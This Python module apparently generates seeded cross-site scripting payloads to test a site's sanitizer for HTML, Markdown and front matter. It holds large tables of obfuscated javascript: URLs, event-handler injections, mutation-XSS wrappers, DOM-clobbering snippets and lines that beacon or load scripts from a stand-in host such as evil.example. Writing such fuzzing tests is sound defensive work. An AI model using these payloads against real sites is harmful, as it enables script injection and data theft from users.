"""Attacks made by rule: attempts to run code on a page, to load something, or to change the site's own scripts.

The kinds are those of the public lists (OWASP on filter evasion, PortSwigger's cheat sheet, the research on mutation XSS
and on DOM clobbering) and of our own pages: Markdown, front matter. All are combined by a seed, so that a number names one.
"""

from __future__ import annotations

from collections.abc import Callable
from html import escape
from random import Random
from urllib.parse import quote

from tests.tricks import TRICKS, URLS

_CODE = (
    "alert(1)", "alert`1`", "(alert)(1)", "top['al'+'ert'](1)", "\\u0061lert(1)", "&#97;lert(1)", "&#x61lert(1)", "self[`alert`](1)", "eval('ale'+'rt(1)')",
    "setTimeout`alert\\x281\\x29`", "[1].find(alert)", "onerror=alert;throw 1", "import('//evil.example/x.js')", "fetch('//evil.example/')", "confirm(1)", "print()",
    "location='javascript:alert(1)'", "new Image().src='//evil.example/'", "navigator.sendBeacon('//evil.example/')", "document.write('<script src=//evil.example>')",
)  # fmt: skip
_HANDLERS = (
    "onload onerror onclick onfocus onblur onmouseover onmouseenter onpointerenter onpointerover ontoggle onbeforetoggle onanimationstart onanimationend "
    "ontransitionend ontransitionrun onstart onfinish onbegin onend onrepeat onpageshow onhashchange onpopstate onscroll onscrollend onwheel onresize "
    "onauxclick oncopy oncut onpaste onkeydown oninput oninvalid onsubmit onreset onsearch onselect oncontentvisibilityautostatechange oncanplay "
    "onloadstart onloadeddata onplay ontimeupdate onreadystatechange onunhandledrejection onmessage onbeforeunload onfocusin ONERROR oNlOaD"
).split()
_ELEMENTS = (
    "img src=x", "svg", "body", "video src=x", "audio src=x", "video><source", "iframe", "iframe srcdoc=x", "object data=x", "embed src=x", "input autofocus", "input type=image src=x",
    "textarea autofocus", "select autofocus", "button autofocus", "a href=# autofocus", "details open", "marquee", "svg><animate attributeName=x dur=1s", "svg><set attributeName=x", "svg><image href=x",
    "svg><use href=x", "math", "style", "link rel=stylesheet href=x", "script src=x", "form", "keygen autofocus", "x-y tabindex=1 id=x style=display:block", "p tabindex=1 autofocus", "picture><img src=x", "image src=x",
    "frameset", "table background=x", "dialog open", "div popover", "track src=x", "meter", "bgsound src=x", "isindex type=image src=x", "portal src=x", "fencedframe", "slot", "template", "div contenteditable autofocus",
    "div style='animation:x'", "div style='content-visibility:auto'", "svg><foreignObject><body", "math><mtext", "noscript", "base href=x",
)  # fmt: skip
_SEPARATORS = (
    " ",
    "/",
    "\t",
    "\n",
    "\f",
    "\r",
    "//",
    " / ",
    "\x0b",
    "/x/",
    " x=1 ",
    '"',
    "'",
    "\u00a0",
    "\u3000",
    "&#10;",
    "/*x*/",
    "\x00",
)
_QUOTES = ("", '"', "'", "`", "&quot;", "\u201c")
_SCHEMES = (
    "javascript:{}", "JaVaScRiPt:{}", " javascript:{}", "\x01javascript:{}", "java\tscript:{}", "java\nscript:{}", "java&#9;script:{}", "java&NewLine;script:{}", "javascript&colon;{}",
    "&#106;avascript:{}", "&#0000106&#0000097vascript:{}", "&#x6A&#x61vascript:{}", "javascript&#58;{}", "javascript&#x3a;{}", "javascript://e.org/%0a{}", "javascript:/*--></title>*/{}", "javascript\uff1a{}",
    "\u202ejavascript:{}", "java\u200bscript:{}", "\ufeffjavascript:{}", "view-source:javascript:{}", "feed:javascript:{}", "jar:javascript:{}", "livescript:{}", "mocha:{}", "vbscript:msgbox(1)",
    "data:text/html,<script>{}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload={}>", "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>{}</script></svg>",
    "data:,{}", "data:text/xml,<x xmlns='http://www.w3.org/1999/xhtml'><script>{}</script></x>", "DATA:TEXT/HTML,<img src=x onerror={}>", "blob:https://e.org/{}", "filesystem:https://e.org/{}", "about:blank#{}", "file:///{}",
    "//evil.example/{}", "https:evil.example", "https:/evil.example", "https:///evil.example", "\\\\evil.example\\{}", "https://e.org\\@evil.example/", 'https://e.org/"onmouseover="{}', "https://e.org/'onmouseover='{}", "https://e.org/><script>{}</script>",
    "https://e.org/)<script>{}</script>", "https://e.org/](javascript:{})", 'https://e.org/ "x" onclick={}', "https://＜script＞{}＜／script＞/", "https://e＂onmouseover＝＂{}/", "https://e.org／＞＜img src=x onerror={}＞", "https://（javascript：{}）/", "https://e.org/%0a%0d<script>{}</script>",
    "https://link.zhihu.com/?target=javascript%3A{}", "https://www.google.com/url?q=javascript:{}", "https://cors.zfour.workers.dev/?javascript:{}", "mailto:a@e.org?body=<script>{}</script>", 'mailto:"<script>{}</script>"@e.org', "https://[::1]<script>{}</script>", 'https://xn--"><script>{}</script>/',
)  # fmt: skip
_CARRIERS = (
    "<a href={q}{u}{q}>x</a>", "<area href={q}{u}{q}>", "<iframe src={q}{u}{q}></iframe>", "<form action={q}{u}{q}><input type=submit></form>", "<button formaction={q}{u}{q}>x</button>", "<object data={q}{u}{q}></object>",
    "<embed src={q}{u}{q}>", "<img src={q}{u}{q}>", "<img srcset={q}{u} 2x{q}>", "<img data-src={q}{u}{q}>", "<svg><a xlink:href={q}{u}{q}><text>x</text></a></svg>", "<math href={q}{u}{q}>x</math>", "<base href={q}{u}{q}>",
    "<link rel=stylesheet href={q}{u}{q}>", "<link rel=import href={q}{u}{q}>", "<link rel=prefetch href={q}{u}{q}>", "<link rel=modulepreload href={q}{u}{q}>", "<link rel=dns-prefetch href={q}{u}{q}>", "<meta http-equiv=refresh content={q}0;url={u}{q}>", "<video poster={q}{u}{q} src={q}{u}{q}></video>",
    "<audio><source src={q}{u}{q}></audio>", "<track src={q}{u}{q}>", "<script src={q}{u}{q}></script>", "<svg><script href={q}{u}{q}></script></svg>", "<svg><use href={q}{u}{q}></use></svg>", "<svg><image href={q}{u}{q}></svg>", "<svg><animate xlink:href=#x attributeName=href values={q}{u}{q}></svg>",
    "<body background={q}{u}{q}>", "<table background={q}{u}{q}><td>x</table>", "<input type=image src={q}{u}{q}>", "<frameset><frame src={q}{u}{q}></frameset>", "<bgsound src={q}{u}{q}>", "<p style={q}background:url({u}){q}>x</p>", "<style>@import '{u}';</style>", "<style>*{{background:url({u})}}</style>", "<blockquote cite={q}{u}{q}>x</blockquote>",
    "<a href=https://e.org/ ping={q}{u}{q}>x</a>", "<html manifest={q}{u}{q}>", "<applet code={q}{u}{q}></applet>", "<picture><source srcset={q}{u}{q}><img src=https://e.org/a.jpg></picture>", "<amp-img src={q}{u}{q}></amp-img>", "<iframe title={q}[x]({u}){q} src=https://e.org/></iframe>",
    "[x]({u})", "[x](<{u}>)", "![x]({u})", "<{u}>", "[x][y]\n\n[y]: {u}", "[x][y]\n\n[y]: <{u}> 'z'", '[x]({u} "y" onclick=alert(1))', "[^1]\n\n[^1]: [x]({u})", "*[x]: {u}", "{u}", "[![x]({u})]({u})", "&lt;{u}&gt;", "&#91;x](&#106;{u})",
)  # fmt: skip
_MUTATING = (
    "<noscript><p title='</noscript>{}'></noscript>", "<svg></p><style><a id='</style>{}'>", "<svg><style>&lt;/style&gt;{}</style></svg>", "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{}'>", "<math><mtext><mglyph><style>{}</style>",
    "<form><math><mtext></form><form><mglyph><style></math>{}", "<template><style></template>{}</style></template>", "<table><td><form><table><td></form>{}</table>", "<svg><title><a id='</title>{}'></title></svg>", "<svg><desc><style>{}</style></desc></svg>",
    "<math><annotation-xml encoding='text/html'><style>{}</style></annotation-xml></math>", "<math><annotation-xml encoding=text/html><p><style><!--</style>{}--></annotation-xml></math>", "<svg><foreignObject><math><mi><mglyph><style>{}</style></mi></math></foreignObject></svg>", "<xmp><p title='</xmp>{}'>", "<textarea><p title='</textarea>{}'>", "<title><p title='</title>{}'>",
    "<style><p title='</style>{}'>", "<iframe><p title='</iframe>{}'>", "<noembed><p title='</noembed>{}'>", "<noframes><p title='</noframes>{}'>", "<!--><p title='-->{}'>", "<!-- --!>{}-->", "<!--->{}-->", "<![CDATA[>{}]]>", "<svg><![CDATA[><image xlink:href=']]>{}'>", "<?xml ?>{}<?x", "<? foo='><script>{}</script>'>",
    "<plaintext>{}", "<listing>&lt;/listing&gt;{}</listing>", "<select><template>{}</template></select>", "<select><iframe>{}</iframe>", "<select><style></select>{}</style>", "<option><style></option></select>{}</style>", "<p/title='><{}'>", "<b><p><b><p>{}", "<a><table><a>{}</table></a>", "<div><![if !vml]>{}<![endif]></div>",
    "<ruby><rt><noscript><p title='</noscript>{}'></rt></ruby>", "<frameset><noframes>{}", "<svg><p>{}</svg>", "<math><mi><p>{}</math>", "<svg><script><!--&lt;script&gt;{}", "<svg><title><style>{}", "<pre><code></code></pre>{}", "<code>{}</code></code>{}", "<pre><textarea></pre>{}</textarea>",
    "<p title='\n\n{}\n\n'>", "<div>\n\n{}\n\n</div>", "<table><tr><td>`</td><td>{}`</td></tr></table>", "<img alt='{}' src=https://e.org/a.jpg>", "<img alt='](x){}' src=https://e.org/a.jpg>", "<img src=https://e.org/a.jpg alt='\n\n{}\n\n'>", "<figure><img src=https://e.org/a.jpg><figcaption>{}</figcaption></figure>",
    "<ul><li>{}<li>    {}</ul>", "<blockquote>{}</blockquote>", "<h2>{}</h2>", "<dl><dt>{}<dd>{}</dl>", "<q>{}</q>", "<ruby>x<rt>{}</rt></ruby>", "<math><semantics><mi>x</mi><annotation encoding=application/x-tex>{}</annotation></semantics></math>", "<script type=math/tex>{}</script>", "<span class=katex><annotation encoding=application/x-tex>{}</annotation></span>",
    "<a href='https://e.org/'>{}</a>", "<iframe src=https://e.org/ title='{}'></iframe>", "<video src=https://e.org/v title='{}'></video>", "<abbr title='{}'>x</abbr>", "<pre class='language-{}'>x\ny</pre>", "<pre>{}</pre>", "<code>{}</code>", "<ol start='{}'><li>x</ol>", "<table><caption>{}</caption><tr><td>x<td>y</table>", "<td colspan='{}'>x",
    "```\n{}\n```", "~~~{}\nx\n~~~", "``` {}\nx\n```", "    {}", "`{}", "x {{: onclick='{}' }}", "# {} {{#x onclick=alert(1)}}", "| a | {} |\n|---|---|\n| b | {} |", "> {}", "- {}", "1. {}", "[{}](https://e.org/)", "![{}](https://e.org/a.jpg '{}')", '!!! note "{}"\n    x', "??? x\n    {}", ": {}", "$${}$$", "\\({}\\)", "<!-- {} -->", "-->{}<!--",
    "<div id='x' dir='rtl\" {}'>x</div>", "<p lang='zh\" {}'>x</p>", "<p id='fn:1'>{}</p><a href='#fn:1'>1</a>", "<sup id='{}'><a href='#{}'>1</a></sup>",
)  # fmt: skip
_CLOBBERING = (
    "<form id={n}><input name={m}></form>", "<a id={n}></a><a id={n} name={m} href='javascript:alert(1)'>x</a>", "<img name={n} src=https://e.org/a.jpg>", "<form name={n}><output id={m}>x</output></form>", "<iframe name={n} srcdoc='<a id={m} href=javascript:alert(1)>x</a>'></iframe>", "<object name={n}></object>", "<embed name={n}>",
    "<p id={n}>x</p>", "<h2 id={n}>x</h2>", "<fieldset name={n}><input name={m}></fieldset>", "<button name={n} form={m}>x</button>", "<html id={n}>", "<body id={n}>", "<script id={n} type=application/json>{{}}</script>", "<template id={n}>x</template>", "<details name={n} open>x</details>", "<li id={n} data-{m}=x>y", "<svg id={n}></svg>",
)  # fmt: skip
_NAMES = "document location body head cookie getElementById querySelector attributes childNodes parentNode innerHTML nodeName __proto__ constructor toString na-search na-page na-cite na-toc main search config archive default defaultView currentScript forms images links scripts self top window name length".split()
_ACTIVE = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>", "<a href=javascript:alert(1)>x</a>", "<script src=//evil.example/x.js></script>", "<style>@import '//evil.example/x.css'</style>", "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<base href=//evil.example/>", "<object data=//evil.example/x></object>", "<form action=//evil.example/><button>x", "<script>alert(1)//", '"><script>alert(1)</script>', "'><img src=x onerror=alert(1)>", "--><img src=x onerror=alert(1)>", "]]><script>alert(1)</script>", "javascript:alert(1)", "[x](javascript:alert(1))", 'x" onmouseover="alert(1)',
    "＜script＞alert(1)＜/script＞", "\u02c2script\u02c3alert(1)", "<ſcript>alert(1)</ſcript>", "<img src=x onerror\u3000=alert(1)>", "+ADw-script+AD4-alert(1)", "\x1b$B<script>alert(1)</script>", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "</title></textarea></style></script><img src=x onerror=alert(1)>",
)  # fmt: skip


def payloads(count: int, seed: int = 0) -> list[str]:
    """The hand-written tricks and URLs, then as many made ones as are missing; different ones, in a fixed order."""
    random = Random(seed)  # noqa: S311 - equal for equal seeds
    made = dict.fromkeys((*TRICKS, *(f"<a href='{escape(url)}'>x</a>" for url in URLS)))
    while len(made) < count:
        made[_disguised(random, random.choice(_KINDS)(random))] = None
    return list(made)[:count]


def _handler(random: Random) -> str:
    element, separator, quote_mark = random.choice(_ELEMENTS), random.choice(_SEPARATORS), random.choice(_QUOTES)
    end = random.choice((">", ">x", "", "//", ">x</" + element.split()[0].split(">")[0] + ">"))
    return f"<{element}{separator}{random.choice(_HANDLERS)}={quote_mark}{random.choice(_CODE)}{quote_mark}{end}"


def _url(random: Random) -> str:
    url = random.choice(_SCHEMES).replace("{}", random.choice(_CODE))
    return random.choice(_CARRIERS).format(u=url, q=random.choice(("", '"', "'", "`")))


def _mutating(random: Random) -> str:
    inner = random.choice(_ACTIVE) if random.random() < 0.6 else _handler(random)
    return random.choice(_MUTATING).replace("{{", "{").replace("}}", "}").replace("{}", inner)


def _clobbering(random: Random) -> str:
    return random.choice(_CLOBBERING).format(n=random.choice(_NAMES), m=random.choice(_NAMES))


def _doubled(random: Random) -> str:
    """One attack in another, or cut in the middle."""
    outer, inner = _mutating(random), random.choice(_ACTIVE)
    place = random.randrange(len(outer) + 1)
    return outer[:place] + random.choice((inner, "", "\x00", "<", "<!--", "</p>")) + outer[place:]


_KINDS: tuple[Callable[[Random], str], ...] = (_handler, _url, _url, _mutating, _mutating, _clobbering, _doubled)


def _disguised(random: Random, payload: str) -> str:
    """Most as they are; some escaped, so that they are text that a careless writer of HTML or Markdown would revive."""
    kind = random.random()
    if kind < 0.65:
        return payload
    if kind < 0.8:
        return f"<p>{escape(payload, quote=False)}</p>"
    if kind < 0.85:
        return escape(escape(payload))
    if kind < 0.9:
        return f"<a href='https://e.org/{quote(payload)}' title='{escape(payload)}'>{escape(payload)}</a>"
    if kind < 0.95:
        return f"<figure><img src='https://e.org/a.jpg' alt='{escape(payload)}'><figcaption>{escape(payload)}</figcaption></figure>"
    return "".join(f"&#{ord(character)};" for character in payload)
